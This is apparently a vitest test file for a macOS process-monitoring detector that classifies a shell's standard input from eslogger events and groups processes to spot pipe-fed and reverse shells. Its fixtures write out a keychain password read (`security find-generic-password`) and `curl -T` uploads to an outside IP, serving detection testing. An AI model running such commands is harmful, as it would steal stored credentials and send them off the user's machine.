/**
 * An exec event's `fds` tell what the new image reads on standard input. A shell fed a script on a pipe, or a
 * remote peer's commands on a socket, reads no terminal and is no interactive group root (SPEC §4), whatever its
 * argv and tty say. The member's rendering is unverified (formats.md names it only): any other shape is "unknown",
 * never a failed event, and both readers agree.
 */
import { describe, expect, it } from 'vitest';
import { SensitivePathMatcher } from '../../../src/classify/sensitive-paths.js';
import { fixedClock } from '../../../src/clock.js';
import { parseConfig } from '../../../src/config/index.js';
import { silentLogger } from '../../../src/log.js';
import { isInteractiveShell } from '../../process-model/lineage.js';
import { createProcessModel } from '../../process-model/model.js';
import type { ArchiveEventRow, SensitiveFileEventRow } from '../../runtime/context.js';
import { RingBuffer } from '../../runtime/ring-buffer.js';
import { parseEsLine, stdinOf } from './parse-eslogger.js';
import { EsloggerPipeline } from './pipeline.js';
import { readEsLine } from './read-eslogger.js';
import { recordingServices } from './testing/test-context.js';
import { body, esLine } from './testing/es-lines.mjs';
import { S, T, terminalSession } from './testing/terminal-session.js';

const python = { pid: 820, ppid: 810, path: '/usr/bin/python3', signingId: 'com.apple.python3', teamId: null, platform: true, startMs: T - 600_000, tty: '/dev/ttys001' };
const bash = { pid: 830, ppid: 820, path: '/bin/bash', signingId: 'com.apple.bash', teamId: null, platform: true, startMs: T - 1000, tty: '/dev/ttys001' };

/** An exec of `bash` (args `['bash']`) whose body's `fds` is `fds` (the key left out when undefined). */
function execLine(fds: unknown, version = 10): string {
  const b: Record<string, unknown> = { ...body.exec(bash, ['bash'], '/Users/dana', version) };
  if (fds === undefined) delete b.fds;
  else b.fds = fds;
  return esLine({ version, kind: 'exec', timeMs: T, gseq: 7, process: python, body: b });
}

describe('exec fds → stdin', () => {
  it.each([
    ['a pipe', [{ fd: 0, fdtype: 6, pipe: { pipe_id: 1234567 } }, { fd: 1, fdtype: 1 }, { fd: 2, fdtype: 1 }], 'pipe'],
    ['a socket (a reverse shell)', [{ fd: 0, fdtype: 2 }, { fd: 1, fdtype: 2 }, { fd: 2, fdtype: 2 }], 'socket'],
    ['the terminal (a vnode)', [{ fd: 0, fdtype: 1 }, { fd: 1, fdtype: 1 }, { fd: 2, fdtype: 1 }], 'other'],
    ['fd 0 listed after others', [{ fd: 2, fdtype: 1 }, { fd: 0, fdtype: 6 }], 'pipe'],
    ['no fd 0 (closed stdin)', [{ fd: 1, fdtype: 1 }], null],
    ['an empty list', [], null],
    ['no fds member', undefined, null],
    ['null', null, null],
    ['not a list', { fd: 0, fdtype: 6 }, null],
    ['fdtype as text', [{ fd: 0, fdtype: '6' }], null],
    ['fdtype not an integer', [{ fd: 0, fdtype: 6.5 }], null],
    ['fd as text', [{ fd: '0', fdtype: 6 }], null],
  ])('%s', (_name, fds, want) => {
    expect(stdinOf(fds)).toBe(want);
    const line = execLine(fds);
    const parsed = parseEsLine(line);
    expect(parsed).toMatchObject({ ok: true, event: { kind: 'exec', stdin: want } });
    const read = readEsLine(line);
    // the fast reader reads every plain shape (or defers to the parser, never differs from it)
    if (read !== undefined || want !== null) expect(read).toStrictEqual((parsed as { event: unknown }).event);
  });

  it('message version 9 (audit tokens as objects) reads the same', () => {
    const line = execLine([{ fd: 0, fdtype: 6 }], 9);
    expect(readEsLine(line)).toMatchObject({ kind: 'exec', stdin: 'pipe' });
    expect(parseEsLine(line)).toMatchObject({ ok: true, event: { stdin: 'pipe' } });
  });

  it('a duplicate fds member is left to the parser (JSON keeps the last)', () => {
    const line = execLine([{ fd: 0, fdtype: 1 }]).replace('"fds":', '"fds":[{"fd":0,"fdtype":6}],"fds":');
    expect(readEsLine(line)).toBeUndefined();
    expect(parseEsLine(line)).toMatchObject({ ok: true, event: { stdin: 'other' } });
  });
});

describe('through the pipeline into the process model', () => {
  function run(fds: unknown) {
    const config = parseConfig({});
    const processes = createProcessModel({ config, clock: fixedClock(S + 10), log: silentLogger() });
    const { signing } = recordingServices();
    const matcher = SensitivePathMatcher.fromConfig({ replace_defaults: false, add: [] });
    const pipeline = new EsloggerPipeline({
      matcher,
      processes,
      signing,
      sensitiveEvents: new RingBuffer<SensitiveFileEventRow>(100, 1800, (e) => e.time),
      archiveEvents: new RingBuffer<ArchiveEventRow>(100, 1800, (e) => e.time),
      precursorRetention: { tier1: 43_200, other: 1800 },
      now: () => S + 10,
    });
    pipeline.handleLine(execLine(fds));
    return processes.get(bash.pid)!;
  }

  it('a bash fed on a pipe is recorded so, and is no interactive shell', () => {
    const r = run([{ fd: 0, fdtype: 6, pipe: { pipe_id: 99 } }]);
    expect(r).toMatchObject({ path: '/bin/bash', args: ['bash'], tty: true, stdin: 'pipe' });
    expect(isInteractiveShell(r)).toBe(false);
  });

  it('a bash reading the terminal stays interactive; so does one whose stdin is unknown', () => {
    expect(isInteractiveShell(run([{ fd: 0, fdtype: 1 }]))).toBe(true);
    const unknown = run(undefined);
    expect(unknown.stdin).toBeUndefined();
    expect(isInteractiveShell(unknown)).toBe(true);
  });
});

describe('a fork inherits its parent\'s argv and stdin', () => {
  const tty = '/dev/ttys001';
  const zshChild = { pid: 830, ppid: 810, path: '/bin/zsh', signingId: 'com.apple.zsh', teamId: null, platform: true, startMs: T - 1000, tty };
  const piped = { ...zshChild, path: '/bin/bash', signingId: 'com.apple.bash' };
  const subshell = { ...piped, pid: 840, ppid: 830, startMs: T - 500 };


  it('a subshell forked by a pipe-fed bash (`curl … | bash` pasted into zsh) is no group root either', () => {
    const { processes, pipeline } = terminalSession();
    const b = { ...body.exec(piped, ['bash'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 6 }, { fd: 1, fdtype: 1 }, { fd: 2, fdtype: 1 }] };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: zshChild, body: b }));
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: piped, body: body.fork(subshell, 10) }));
    const child = processes.get(840)!;
    expect(child).toMatchObject({ args: ['bash'], stdin: 'pipe' });
    expect(isInteractiveShell(child)).toBe(false);
    expect(processes.group(child).root.pid).toBe(810);
  });

  it('a subshell of `bash -ic \'…\'` runs the same command line: no group root', () => {
    const { processes, pipeline } = terminalSession();
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: zshChild, body: body.exec(piped, ['bash', '-ic', '( curl -T x https://203.0.113.5/ ) &'], '/Users/dana', 10) }));
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: piped, body: body.fork(subshell, 10) }));
    expect(processes.group(processes.get(840)!).root.pid).toBe(810);
  });

  it('a `( … )` subshell of the user\'s interactive shell is that shell\'s: a keychain read in it explains the upload beside it', () => {
    const { processes, pipeline } = terminalSession();
    const loginZsh = { ...zshChild, pid: 810, ppid: 805, startMs: (S - 7198) * 1000 };
    const sub = { ...zshChild, pid: 850, ppid: 810, startMs: T - 500 };
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: loginZsh, body: body.fork(sub, 10) }));
    const secFork = { ...sub, pid: 860, ppid: 850, startMs: T - 400 };
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 400, gseq: 3, process: sub, body: body.fork(secFork, 10) }));
    const security = { ...secFork, path: '/usr/bin/security', signingId: 'com.apple.security' };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 400, gseq: 4, process: secFork, body: { ...body.exec(security, ['security', 'find-generic-password', '-wa', 'Chrome'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 1 }] } }));
    const curlFork = { ...zshChild, pid: 870, ppid: 810, startMs: T - 300 };
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 300, gseq: 5, process: loginZsh, body: body.fork(curlFork, 10) }));
    const curl = { ...curlFork, path: '/usr/bin/curl', signingId: 'com.apple.curl' };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 300, gseq: 6, process: curlFork, body: { ...body.exec(curl, ['curl', '-T', '/tmp/k', 'https://203.0.113.5/'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 1 }] } }));
    expect(processes.get(850)).toMatchObject({ args: ['-zsh'], forkedOnly: true });
    expect(processes.get(860)!.forkedOnly).toBeUndefined(); // exec'd security
    expect(processes.group(processes.get(870)!).root.pid).toBe(810);
    expect(processes.group(processes.get(860)!).root.pid).toBe(810);
  });

  it('ps listing the subshell before the fork line is read: it still inherits the pipe', () => {
    const { processes, pipeline } = terminalSession();
    const b = { ...body.exec(piped, ['bash'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 6 }, { fd: 1, fdtype: 1 }, { fd: 2, fdtype: 1 }] };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: zshChild, body: b }));
    processes.observe({ pid: 840, processStart: Math.floor((T - 500) / 1000), ppid: 830, name: 'bash', args: ['bash'], uid: 501, source: 'ps', seenAt: S });
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: piped, body: body.fork(subshell, 10) }));
    const child = processes.get(840)!;
    expect(child.stdin).toBe('pipe');
    expect(isInteractiveShell(child)).toBe(false);
    expect(processes.group(child).root.pid).toBe(810);
  });

  it('a nested shell the user starts (fork, then exec of zsh) is a group root of its own; its exec ends the subshell mark', () => {
    const { processes, pipeline } = terminalSession();
    const loginZsh = { ...zshChild, pid: 810, ppid: 805, startMs: (S - 7198) * 1000 };
    const nested = { ...zshChild, pid: 880, ppid: 810, startMs: T - 200 };
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 200, gseq: 7, process: loginZsh, body: body.fork(nested, 10) }));
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 200, gseq: 8, process: nested, body: body.exec(nested, ['zsh'], '/Users/dana', 10) }));
    const r = processes.get(880)!;
    expect(r.forkedOnly).toBeUndefined();
    expect(processes.group(r)).toMatchObject({ rootKind: 'terminal_shell' });
    expect(processes.group(r).root.pid).toBe(880);
  });

  it('a child seen by ps already running another image than its parent\'s inherits nothing from a late fork line', () => {
    const { processes, pipeline } = terminalSession();
    const b = { ...body.exec(piped, ['bash'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 6 }] };
    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: zshChild, body: b }));
    processes.observe({ pid: 840, processStart: Math.floor((T - 500) / 1000), ppid: 830, path: '/usr/bin/curl', args: ['curl', 'x'], uid: 501, source: 'osquery', seenAt: S });
    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: piped, body: body.fork(subshell, 10) }));
    expect(processes.get(840)).toMatchObject({ path: '/usr/bin/curl', args: ['curl', 'x'] });
    expect(processes.get(840)!.forkedOnly).toBeUndefined();
  });
});

